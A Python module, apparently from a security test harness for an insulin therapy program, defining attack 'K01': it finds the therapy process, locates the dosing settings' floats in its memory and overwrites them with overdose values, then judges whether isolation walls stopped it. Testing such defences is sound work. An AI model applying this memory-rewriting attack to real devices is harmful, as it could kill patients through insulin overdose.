"""K01: reach into therapy's memory and rewrite the prescription."""

from __future__ import annotations

import struct

from faults.attack import Attack, CannotTell, Effect, Injection, OneOf, Parameters, Report
from faults.implant import victim
from faults.implant.foothold import Foothold
from faults.seen import Observations, first_difference
from ipc_schemas import codec

#: What the attacker makes of the settings in force: every one of them lets therapy give more insulin. In
#: order of importance: where two settings have the same value, the first one's new value is written.
OVERDOSE = {
    "insulin_on_board_max_u": 50.0,
    "basal_max_u_per_h": 35.0,
    "basal_profile_u_per_h": 12.0,
    "correction_mg_dl_per_u": 2.0,
    "carb_ratio_g_per_u": 2.0,
    "target_mg_dl": 80.0,
}
#: Values that stand everywhere in a Python process and would give a setting away only by chance.
_TOO_COMMON = frozenset((0.0, 1.0, -1.0))


def _substitutions(foothold: Foothold, parameters: Parameters) -> dict[float, float]:
    """Old value to new value, from the settings that therapy itself published."""
    known = parameters.get("known") or {}
    only = str(parameters.get("setting", "all"))
    pairs: dict[float, float] = {}
    for name, new in OVERDOSE.items():
        old = known.get(name, getattr(foothold.settings, name, None))
        if only in (name, "all") and old is not None and old not in _TOO_COMMON and old != new:
            pairs.setdefault(float(old), float(new))
    return pairs


def inject(foothold: Foothold, parameters: Parameters) -> Report:
    """Find therapy's process and the prescription's numbers in its memory; write deadlier ones.

    ``run_pid`` (required), ``victim`` ("therapy"), ``setting`` ("all", or one of ``OVERDOSE``).
    """
    try:
        from faults.implant import remote
    except (ImportError, OSError) as error:
        return {"note": f"no raw system calls: {error}"}
    search = victim.find(str(parameters.get("victim", "therapy")), int(parameters.get("run_pid", 0)))
    if not search.pids:
        remote.knock()
        return victim.not_found(search)
    pairs = _substitutions(foothold, parameters)
    report: Report = {"victims": len(search.pids), "known_values": len(pairs), "written": 0, "errors": []}
    for pid in search.pids:
        try:
            for old, addresses in remote.find_float_objects(pid, list(pairs)).items():
                for address in addresses:
                    remote.write(pid, address, struct.pack("<d", pairs[old]))
                    report["written"] += 1
        except OSError as error:
            report["errors"].append(str(error))
    return report


def effect(seen: Observations, injection: Injection) -> Effect:
    """Therapy publishes the settings it works with: if they change, its memory was changed.

    Otherwise its outputs decide. They may differ from a twin's for an innocent reason as well: a transfer
    that was killed for the attempt relays nothing in that frame. A replay of the admitted messages has no
    such reason.
    """
    if seen.therapy_outputs is None:
        raise CannotTell("no record of therapy's outputs")
    before, after = _settings(seen, injection)
    if before is not None and after is not None and before != after:
        return Effect(True, f"Therapy's settings changed: {_changes(before, after)}.")
    if seen.reference_outputs is None:
        raise CannotTell("there is no run to compare therapy's outputs with")
    first = first_difference(seen.therapy_outputs, seen.reference_outputs)
    if first is None or (injection.until_frame is not None and first[0] >= injection.until_frame):
        return Effect(False, "Therapy's outputs are the same, byte for byte.")
    if first[0] < injection.frame:
        if before is not None and before == after:
            return Effect(False, "Therapy's settings are what they were.")
        raise CannotTell(f"therapy's outputs differed already in frame {first[0]}, before the attack")
    if seen.reference_is_replay or not seen.ended(injection, seen.attacker):
        return Effect(True, f"Therapy's outputs differ from frame {first[0]}, port {first[1]}.")
    if before is not None and before == after:
        return Effect(
            False, "Therapy's settings are what they were; it only lacked the killed partition's messages."
        )
    raise CannotTell(
        "therapy's outputs differ, but the attacker's death may be the reason; compare with a replay"
    )


def _settings(
    seen: Observations, injection: Injection
) -> tuple[dict[str, object] | None, dict[str, object] | None]:
    """The last settings that therapy published before the attack and in its frames, without the time."""
    before = after = None
    for one in seen.therapy_outputs or ():
        if one.port == f"{seen.victim}.settings":
            value = codec.decode_any(one.payload)
            fields = {key: item for key, item in value.items() if key != "at_min"}
            if one.frame < injection.frame:
                before = fields
            elif one.frame > injection.frame and injection.covers(one.frame):
                after = fields
    return before, after


def _changes(before: dict[str, object], after: dict[str, object]) -> str:
    return ", ".join(
        f"{key} {before.get(key)} to {value}" for key, value in after.items() if before.get(key) != value
    )


ATTACK = Attack(
    "K01",
    "It tries to reach into the therapy program's memory and rewrite the dose limit.",
    effect,
    inject,
    parameters={"setting": OneOf((*OVERDOSE, "all"))},
    needs=("victim",),
    costs_a_restart=True,
    walls=("pidns", "procfs", "uid", "seccomp", "landlock", "dumpable"),
    shows_within_frames=14,
)
